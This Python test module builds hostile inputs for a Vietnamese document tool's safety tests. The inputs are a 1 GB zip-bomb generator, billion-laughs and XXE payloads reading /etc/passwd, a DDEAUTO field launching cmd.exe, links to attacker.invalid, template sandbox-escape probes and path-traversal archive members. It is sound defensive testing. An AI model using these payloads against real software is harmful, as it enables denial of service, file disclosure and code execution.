"""The hostile corpus: inputs that once crashed, hung or leaked, built by code (no binary blobs).

Each :class:`Case` writes its inputs into an empty folder and returns the ``vbhc`` arguments to run on
them; ``tests/hostile/test_corpus.py`` runs each in a subprocess with a memory and a time limit.
The cases follow the hostile-input issue (check, templates, writing, specs) and the classes around
each one. Inputs that grow (a list numbered from 2,000,000,000, 200,000 paragraphs, outline items,
continuation lines) are :mod:`tests.test_scaling`'s, built by :mod:`tests.scaling_inputs`.
"""

from __future__ import annotations

import functools
import io
import json
import os
import stat
import struct
import unicodedata
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.check.docx_fixtures import NS, build_docx, para, pstyle, rels_xml, zip_members
from tests.scaling_inputs import numbering_start_docx

ROOT = Path(__file__).resolve().parents[2]
BASE_TEMPLATE = ROOT / "templates" / "nd30" / "base.docx"
PROFILE = ROOT / "examples" / "profiles" / "xa-hoang-kim.yaml"
PLAN = ROOT / "examples" / "ke-hoach-hoang-kim.json"

Build = Callable[[Path], list[str]]
Inspect = Callable[[Path], None]  # extra assertions on the folder after a successful run


@dataclass(frozen=True)
class Case:
    name: str
    build: Build
    exits: frozenset[int]  # the exit statuses that are right for this input
    error: str | None = None  # a fragment the one-line error must contain (exit 2)
    outputs: tuple[str, ...] = ()  # files a successful run may create in the folder
    inspect: Inspect | None = None
    fsize_limit: int | None = None  # bytes a process may write to one file (a disk that is full)
    timeout: float = 30.0
    env: dict[str, str] = field(default_factory=dict)


REFUSED = frozenset({2})
CHECKED = frozenset({0, 1})  # a report, with or without findings


# --------------------------------------------------------------------------------------------
# Small builders


def spec_data(**overrides: object) -> dict[str, object]:
    """A minimal valid plan, as JSON data; keyword arguments replace fields."""
    data: dict[str, object] = {
        "type": "ke-hoach",
        "issuer": {"name": ["Ủy ban nhân dân", "xã Hoàng Kim"], "abbreviation": "UBND"},
        "place": "Hoàng Kim", "date": "2024-03-05", "summary": "Tóm tắt",
        "body": ["Nội dung."],
        "signatures": [{"position": "Chủ tịch", "name": "Lê Văn A"}],
    }
    data.update(overrides)
    return data


def write_spec(folder: Path, name: str = "spec.json", **overrides: object) -> Path:
    path = folder / name
    path.write_text(json.dumps(spec_data(**overrides), ensure_ascii=False), encoding="utf-8")
    return path


def yaml_spec(folder: Path, text: str, name: str = "spec.yaml") -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def template_with(replace: dict[str, bytes | None] | None = None, add: dict[str, bytes] | None = None,
                  duplicate: dict[str, bytes] | None = None) -> bytes:
    """The built-in template with members replaced (None drops one), added, or added a second time."""
    with zipfile.ZipFile(BASE_TEMPLATE) as zf:
        members = {info.filename: zf.read(info) for info in zf.infolist()}
    for name, data in (replace or {}).items():
        if data is None:
            members.pop(name, None)
        else:
            members[name] = data
    members.update(add or {})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        with warnings.catch_warnings():  # zipfile warns of the duplicate it is asked to write
            warnings.simplefilter("ignore", UserWarning)
            for name, data in (duplicate or {}).items():
                zf.writestr(zipfile.ZipInfo(name), data)  # a second member of the same name
    return buf.getvalue()


def template_part(name: str) -> bytes:
    with zipfile.ZipFile(BASE_TEMPLATE) as zf:
        return zf.read(name)


def styles_with(old: bytes, new: bytes) -> bytes:
    styles = template_part("word/styles.xml")
    assert old in styles, old
    return styles.replace(old, new, 1)


def render_with_template(data: bytes) -> Build:
    def build(folder: Path) -> list[str]:
        (folder / "t.docx").write_bytes(data)
        spec = write_spec(folder)
        return ["render", str(spec), "--template", str(folder / "t.docx"), "-o", str(folder / "out.docx")]
    return build


def validate_with_profile_template(data: bytes) -> Build:
    def build(folder: Path) -> list[str]:
        (folder / "t.docx").write_bytes(data)
        profile = folder / "profile.yaml"
        profile.write_text(PROFILE.read_text(encoding="utf-8") + "\ntemplate: t.docx\n", encoding="utf-8")
        spec = write_spec(folder, profile="profile.yaml")
        return ["validate", str(spec)]
    return build


def check_file(data: bytes, name: str = "in.docx") -> Build:
    def build(folder: Path) -> list[str]:
        (folder / name).write_bytes(data)
        return ["check", str(folder / name)]
    return build


def import_file(data: bytes, name: str = "in.docx") -> Build:
    """``vbhc import`` of a file holding ``data``, the spec to out.yaml (which must not appear on error)."""
    def build(folder: Path) -> list[str]:
        (folder / name).write_bytes(data)
        return ["import", str(folder / name), "-o", str(folder / "out.yaml")]
    return build


@functools.lru_cache(maxsize=4)
def bomb_member(size: int, name: str = "word/document.xml") -> bytes:
    """A zip whose one member inflates to about ``size`` bytes of one repeated paragraph.

    Built without inflating anything: after a full flush, deflate restarts its dictionary, so every
    further 1 MiB chunk compresses to the same block, which is repeated; CRC-32 is combined likewise.
    """
    unit = b"<w:p><w:r><w:t>x</w:t></w:r></w:p>"
    head, tail = f"<w:document {NS}><w:body>".encode(), b"</w:body></w:document>"
    chunk = unit * (1024 * 1024 // len(unit))
    count = size // len(chunk)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    assert again == block
    data = first + block * count + deflate.compress(tail) + deflate.flush()
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    length = len(head) + len(chunk) * count + len(tail)
    encoded = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), length,
                        len(encoded), 0) + encoded
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data),
                          length, len(encoded), 0, 0, 0, 0, 0, 0) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


def with_member(docx: bytes, name: str, data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx)) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    members[name] = data
    return zip_members(members)


# The run properties of the body style (VbhcBody) in the built-in template.
BODY_RPR = b'<w:b w:val="0"/><w:bCs w:val="0"/><w:i w:val="0"/><w:iCs w:val="0"/><w:sz w:val="28"/>'

LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10))
          + ']>')


def no_member(*fragments: str) -> Inspect:
    """After a successful render: out.docx holds no member or relationship naming a fragment."""
    def inspect(folder: Path) -> None:
        with zipfile.ZipFile(folder / "out.docx") as zf:
            names = zf.namelist()
            assert len(names) == len(set(names)), names
            blob = b"".join(zf.read(n) for n in names if n.endswith((".xml", ".rels")))
        for fragment in fragments:
            assert not any(fragment.lower() in n.lower() for n in names), (fragment, names)
            assert fragment.encode() not in blob, fragment
        from vbhc.check import check

        report = check(folder / "out.docx")
        assert report.errors == 0, [f.rule_id for f in report.findings]
    return inspect


# --------------------------------------------------------------------------------------------
# The cases


def _fifo(folder: Path) -> list[str]:
    os.mkfifo(folder / "pipe.docx")
    return ["check", str(folder / "pipe.docx")]


def _fifo_spec(folder: Path) -> list[str]:
    os.mkfifo(folder / "pipe.yaml")
    return ["validate", str(folder / "pipe.yaml")]


def _output_to(target: Callable[[Path], Path], command: str = "render") -> Build:
    def build(folder: Path) -> list[str]:
        out = target(folder)
        if command == "render":
            return ["render", str(write_spec(folder)), "-o", str(out)]
        if command == "template":
            return ["template", "-o", str(out)]
        if command == "new":
            return ["new", "ke-hoach", "-o", str(out)]
        return ["schema", "-o", str(out)]
    return build


def _a_folder(folder: Path) -> Path:
    (folder / "out.docx").mkdir()
    return folder / "out.docx"


def _docm(folder: Path) -> list[str]:
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/document.xml" '
          'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rIdVba" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/></Relationships>')
    extra: dict[str, bytes | str] = {"[Content_Types].xml": ct, "word/vbaProject.bin": b"MACRO" * 10,
                                     "word/_rels/document.xml.rels": rels}
    data = build_docx(para("Nội dung"), extra=extra)
    (folder / "x.docm").write_bytes(data)
    return ["check", str(folder / "x.docm"), "--fix", str(folder / "y.docx")]


def _no_macros(folder: Path) -> None:
    with zipfile.ZipFile(folder / "y.docx") as zf:
        names = zf.namelist()
        types = zf.read("[Content_Types].xml")
    assert not any("vba" in n.lower() for n in names), names
    assert b"macroEnabled" not in types and b"vbaProject" not in types


def _py_exit(folder: Path) -> list[str]:
    (folder / "spec.py").write_text("import sys\nsys.exit(0)\n", encoding="utf-8")
    return ["render", str(folder / "spec.py"), "-o", str(folder / "out.docx")]


def _nfd(value: str, key: str) -> Build:
    def build(folder: Path) -> list[str]:
        extra = {key: unicodedata.normalize("NFD", value)}
        return ["validate", str(write_spec(folder, **extra))]
    return build


def _text_case(text: str) -> Build:
    def build(folder: Path) -> list[str]:
        return ["validate", str(write_spec(folder, body=[text]))]
    return build


def _summary(text: str) -> Build:
    def build(folder: Path) -> list[str]:
        return ["validate", str(write_spec(folder, summary=text))]
    return build


def _render_text(text: str) -> Build:
    def build(folder: Path) -> list[str]:
        return ["render", str(write_spec(folder, body=[text])), "-o", str(folder / "out.docx")]
    return build


def _dev_zero(_: Path) -> list[str]:
    return ["check", "/dev/zero"]


def _dev_zero_spec(_: Path) -> list[str]:
    return ["validate", "/dev/zero"]


def _dev_zero_template(folder: Path) -> list[str]:
    return ["render", str(write_spec(folder)), "--template", "/dev/zero", "-o", str(folder / "out.docx")]


FIELD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} '
         '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
         '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _header_with(code: str) -> bytes:
    header = template_part("word/header1.xml")
    return header.replace(b"</w:hdr>", FIELD.format(code=code).encode() + b"</w:hdr>")


def _external_image_rels() -> bytes:
    rels = template_part("word/_rels/document.xml.rels")
    return rels.replace(b"</Relationships>",
                        b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
                        b'2006/relationships/image" Target="http://attacker.invalid/x.png" '
                        b'TargetMode="External"/></Relationships>')


# --------------------------------------------------------------------------------------------
# Office forms (vbhc render --form): the form is read safely and its tags run in a bounded sandbox


def render_form(data: bytes) -> Build:
    """``vbhc render SPEC --form form.docx``, the form's bytes given."""
    def build(folder: Path) -> list[str]:
        (folder / "form.docx").write_bytes(data)
        return ["render", str(write_spec(folder)), "--form", str(folder / "form.docx"), "-o",
                str(folder / "out.docx")]
    return build


def form_with(*texts: str) -> bytes:
    """A form of one paragraph a text (XML-escaped)."""
    from xml.sax.saxutils import escape

    return build_docx("".join(para(escape(t)) for t in texts))


def _literal_form(folder: Path) -> None:
    """After a successful render: the spec's hostile summary printed as typed, never evaluated."""
    with zipfile.ZipFile(folder / "out.docx") as zf:
        xml = zf.read("word/document.xml").decode()
    assert "{{ 7*7 }} &lt;w:p&gt; &amp;amp; ]]&gt;" in xml and "49" not in xml, xml[-500:]


def _render_literal_form(folder: Path) -> list[str]:
    (folder / "form.docx").write_bytes(form_with("{{ trich_yeu }}"))
    spec = write_spec(folder, summary="{{ 7*7 }} <w:p> &amp; ]]>")
    return ["render", str(spec), "--form", str(folder / "form.docx"), "-o", str(folder / "out.docx")]


FORM_XXE = (f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            f'<w:document {NS}><w:body><w:p><w:r><w:t>&x;{{{{ trich_yeu }}}}</w:t></w:r></w:p></w:body>'
            '</w:document>')
FORM_ATTACHED = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
                 'TargetMode="External"/></Relationships>')


def form_cases() -> list[Case]:
    loop = "{% for x in range(99999) %}{% for y in range(99999) %}{% endfor %}{% endfor %}"
    return [
        Case("form/mro", render_form(form_with("{{ ''.__class__.__mro__ }}")), REFUSED, error="¶1"),
        Case("form/range-1e9", render_form(form_with("{% for x in range(10**9) %}x{% endfor %}")), REFUSED,
             error="Range too big"),
        Case("form/nested-loops", render_form(form_with(loop)), REFUSED, error="template steps"),
        Case("form/include", render_form(form_with("{% include 'form.docx' %}")), REFUSED, error="include"),
        Case("form/import", render_form(form_with("{% import 'form.docx' as f %}")), REFUSED, error="import"),
        Case("form/extends", render_form(form_with("{% extends 'form.docx' %}")), REFUSED, error="extends"),
        Case("form/macro-doubling", render_form(form_with(
            "{% macro f(s) %}{{ f(s ~ s) }}{% endmacro %}{{ f('x') }}")), REFUSED, error="macro"),
        Case("form/string-times-1e9", render_form(form_with("{{ 'x' * 10**9 }}")), REFUSED, error="at most"),
        Case("form/nested-repeat", render_form(form_with("{{ [[spec] * 1000] * 1000 }}")), REFUSED,
             error="repeating a list"),
        Case("form/concat-reprs", render_form(form_with("{{ " + " ~ ".join(["spec"] * 2000) + " }}")),
             REFUSED, error="not text"),
        Case("form/center-1e9", render_form(form_with("{{ trich_yeu.center(10**9) }}")), REFUSED,
             error="center"),
        Case("form/output-10MB", render_form(form_with("{% for x in range(99999) %}" + "x" * 2000
                                                       + "{% endfor %}")), REFUSED, error="larger than"),
        Case("form/cut-table", render_form(build_docx(para("{% if false %}") + "<w:tbl><w:tr><w:tc>"
                                                      + para("a{% endif %}") + "</w:tc></w:tr></w:tbl>")),
             REFUSED, error="well-formed"),
        Case("form/zip-bomb", render_form(bomb_member(1024 * 1024 * 1024)), REFUSED),
        Case("form/billion-laughs", render_form(build_docx(document=LAUGHS + f'<w:document {NS}><w:body>'
                                                           '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
                                                           '</w:body></w:document>')), REFUSED, error="DTD"),
        Case("form/xxe", render_form(build_docx(document=FORM_XXE)), REFUSED, error="DTD"),
        Case("form/attached-template", render_form(build_docx(para("x"), settings="", extra={
            "word/_rels/settings.xml.rels": FORM_ATTACHED})), REFUSED, error="outside file"),
        Case("form/INCLUDEPICTURE", render_form(build_docx(FIELD.format(
            code='INCLUDEPICTURE "http://attacker.invalid/x.png"'))), REFUSED, error="INCLUDEPICTURE"),
        Case("form/missing-part", render_form(build_docx(para("x"), extra={
            "word/_rels/document.xml.rels": rels_xml([("rId1", "styles", "missing.xml")])})), REFUSED,
             error="cannot fill this form"),
        Case("form/dev-zero", lambda f: ["render", str(write_spec(f)), "--form", "/dev/zero", "-o",
                                         str(f / "out.docx")], REFUSED),
        Case("form/literal-user-text", _render_literal_form, frozenset({0}), outputs=("out.docx",),
             inspect=_literal_form),
    ]


def cases() -> list[Case]:
    big_word = "a" * 200_003
    repetitive = ("Nội dung lặp lại. " * 60_000)[:1_000_000]
    return [
        # vbhc check
        # growing inputs (2e9 list starts, 200,000 paragraphs, outline items, continuation lines) are
        # tests/test_scaling.py's, at sizes a test can afford; these are the classes around them
        Case("check/upperLetter-start-2e9", check_file(numbering_start_docx("upperLetter", 2_000_000_000)),
             CHECKED),
        Case("check/ordinal-start-2e9", check_file(numbering_start_docx("ordinal", 2_000_000_000)), CHECKED),
        Case("check/decimal-start-2e9", check_file(numbering_start_docx("decimal", 2_000_000_000)), CHECKED),
        Case("check/negative-start", check_file(numbering_start_docx("lowerRoman", -5)), CHECKED),
        Case("check/repetitive-paragraphs", check_file(build_docx(para("x") * 200_000)), REFUSED,
             error="compression ratio"),
        Case("check/dev-zero", _dev_zero, REFUSED),
        Case("check/fifo", _fifo, REFUSED),
        Case("check/folder", lambda f: ["check", str(f)], REFUSED),
        Case("check/zip-bomb-1GB", check_file(bomb_member(1024 * 1024 * 1024)), REFUSED),
        Case("check/billion-laughs", check_file(build_docx(document=LAUGHS + f'<w:document {NS}><w:body>'
                                                           '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
                                                           '</w:body></w:document>')), REFUSED),
        Case("check/not-a-zip", check_file(b"PK\x03\x04" + b"\0" * 100), REFUSED),
        # import: the same safe reader as check, and a clear refusal for what is no document
        Case("import/zip-bomb-1GB", import_file(bomb_member(1024 * 1024 * 1024)), REFUSED),
        Case("import/billion-laughs", import_file(build_docx(document=LAUGHS + f'<w:document {NS}><w:body>'
                                                             '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
                                                             '</w:body></w:document>')), REFUSED),
        Case("import/not-a-zip", import_file(b"PK\x03\x04" + b"\0" * 100), REFUSED),
        Case("import/not-utf8-text", import_file(b"\xff\xfeK\x00", "pasted.txt"), REFUSED, error="UTF-8"),
        Case("import/no-document", import_file(build_docx(para("x") * 2_000)), REFUSED,
             error="not an administrative document"),
        # templates
        Case("template/zip-bomb-render", render_with_template(
            with_member(template_with(), "word/bomb.xml", bomb_member(1024 * 1024 * 1024))), REFUSED),
        Case("template/zip-bomb-validate", validate_with_profile_template(
            with_member(template_with(), "word/bomb.xml", bomb_member(1024 * 1024 * 1024))), REFUSED),
        Case("template/dev-zero", _dev_zero_template, REFUSED),
        Case("template/malformed-styles", render_with_template(
            template_with({"word/styles.xml": b"<w:styles"})), REFUSED, error="styles.xml"),
        Case("template/pgSz-without-w", render_with_template(
            template_with({"word/document.xml": template_part("word/document.xml").replace(
                b' w:w="11906"', b"")})),
            REFUSED, error="pgSz"),
        Case("template/pgSz-A4", render_with_template(
            template_with({"word/document.xml": template_part("word/document.xml").replace(
                b'w:w="11906"', b'w:w="A4"')})), REFUSED),
        Case("template/5000-digit-size-defaults", render_with_template(template_with({
            "word/styles.xml": styles_with(b'<w:sz w:val="28"/>', b'<w:sz w:val="' + b"9" * 5000 + b'"/>')})),
            REFUSED, error="docDefaults"),
        Case("template/5000-digit-size-body", render_with_template(template_with({
            "word/styles.xml": styles_with(BODY_RPR, BODY_RPR.replace(b'w:sz w:val="28"', b'w:sz w:val="'
                                                                      + b"9" * 5000 + b'"'))})),
            REFUSED, error="w:sz"),
        Case("template/deep-basedOn", render_with_template(template_with({"word/styles.xml": styles_with(
            b"</w:styles>", "".join(pstyle(f"S{i}", based_on=f"S{i + 1}") for i in range(20_000)).encode()
            + pstyle("S20000").encode() + b"</w:styles>")})), frozenset({0, 2}), outputs=("out.docx",),
            inspect=no_member()),
        Case("template/billion-laughs", render_with_template(template_with({
            "word/styles.xml": LAUGHS.encode() + template_part("word/styles.xml").split(b"?>", 1)[1]})),
            REFUSED),
        Case("template/theme-font-body", render_with_template(template_with({"word/styles.xml": styles_with(
            BODY_RPR, b'<w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/>' + BODY_RPR)})),
            REFUSED, error="font.family"),
        Case("template/theme-font-defaults", render_with_template(template_with({
            "word/styles.xml": styles_with(b'w:ascii="Times New Roman"', b'w:asciiTheme="minorHAnsi"')})),
            frozenset({0, 2}), outputs=("out.docx",), inspect=no_member()),
        Case("template/DDEAUTO", render_with_template(template_with(
            {"word/header1.xml": _header_with('DDEAUTO "c:\\\\cmd.exe" "/c calc"')})),
            frozenset({0, 2}), outputs=("out.docx",), inspect=no_member("DDEAUTO")),
        Case("template/INCLUDEPICTURE", render_with_template(template_with(
            {"word/header1.xml": _header_with('INCLUDEPICTURE "http://attacker.invalid/x.png"')})),
            frozenset({0, 2}), outputs=("out.docx",), inspect=no_member("INCLUDEPICTURE", "attacker")),
        Case("template/external-image", render_with_template(template_with(
            {"word/_rels/document.xml.rels": _external_image_rels()})),
            frozenset({0, 2}), outputs=("out.docx",), inspect=no_member("attacker", "External")),
        Case("template/vbaProject", render_with_template(template_with(add={"word/vbaProject.bin": b"M"})),
             frozenset({0, 2}), outputs=("out.docx",), inspect=no_member("vbaProject")),
        Case("template/evil-member", render_with_template(template_with(add={"../../evil.txt": b"evil"})),
             frozenset({0, 2}), outputs=("out.docx",), inspect=no_member("evil")),
        Case("template/duplicate-document", render_with_template(template_with(
            duplicate={"word/document.xml": template_part("word/document.xml")})),
            frozenset({0, 2}), outputs=("out.docx",), inspect=no_member()),
        Case("template/not-a-docx", render_with_template(b"hello"), REFUSED),
        # writing
        Case("write/render-to-a-folder", _output_to(_a_folder), REFUSED),
        Case("write/render-missing-parent", _output_to(lambda f: f / "no" / "out.docx"), REFUSED),
        Case("write/render-denied", _output_to(lambda f: Path("/sys/vbhc-out.docx")), REFUSED),
        Case("write/render-disk-full", _output_to(lambda f: f / "out.docx"), REFUSED, fsize_limit=4096),
        Case("write/render-wrong-extension", _output_to(lambda f: f / "out.txt"), REFUSED),
        Case("write/template-missing-parent", _output_to(lambda f: f / "no" / "t.docx", "template"), REFUSED),
        Case("write/template-txt", _output_to(lambda f: f / "t.txt", "template"), REFUSED),
        Case("write/template-disk-full", _output_to(lambda f: f / "t.docx", "template"), REFUSED,
             fsize_limit=4096),
        Case("write/new-missing-parent", _output_to(lambda f: f / "no" / "s.yaml", "new"), REFUSED),
        Case("write/new-denied", _output_to(lambda f: Path("/sys/vbhc-s.yaml"), "new"), REFUSED),
        Case("write/schema-missing-parent", _output_to(lambda f: f / "no" / "s.json", "schema"), REFUSED),
        Case("write/schema-disk-full", _output_to(lambda f: f / "s.json", "schema"), REFUSED,
             fsize_limit=1024),
        Case("write/fix-docm", _docm, CHECKED, outputs=("y.docx",), inspect=_no_macros),
        Case("write/fix-to-a-folder", lambda f: [*_docm(f)[:3], str(f)], REFUSED),
        # specs
        Case("spec/dev-zero", _dev_zero_spec, REFUSED),
        Case("spec/fifo", _fifo_spec, REFUSED),
        Case("spec/nfd-type", _nfd("Kế hoạch", "type"), frozenset({0})),
        Case("spec/nfd-secrecy", _nfd("MẬT", "secrecy"), frozenset({0})),
        Case("spec/nfd-urgency", _nfd("KHẨN", "urgency"), frozenset({0})),
        Case("spec/200003-char-word", _text_case(big_word), REFUSED, error="body"),
        Case("spec/1MB-repetitive-paragraph", _text_case(repetitive), REFUSED, error="body"),
        Case("spec/render-200003-char-word", _render_text(big_word), REFUSED, error="body"),
        Case("spec/U+061C", _summary("Tóm\u061ctắt"), REFUSED, error="summary"),
        Case("spec/U+2028", _summary("Tóm\u2028tắt"), REFUSED, error="summary"),
        Case("spec/U+2029", _summary("Tóm\u2029tắt"), REFUSED, error="summary"),
        Case("spec/U+200E", _summary("Tóm\u200etắt"), REFUSED, error="summary"),
        Case("spec/U+202E", _summary("Tóm\u202etắt"), REFUSED, error="summary"),
        Case("spec/NUL", _summary("Tóm\x00tắt"), REFUSED, error="summary"),
        Case("spec/py-sys-exit-0", _py_exit, REFUSED),
        *form_cases(),
    ]


def is_fifo(path: Path) -> bool:
    return stat.S_ISFIFO(os.lstat(path).st_mode)
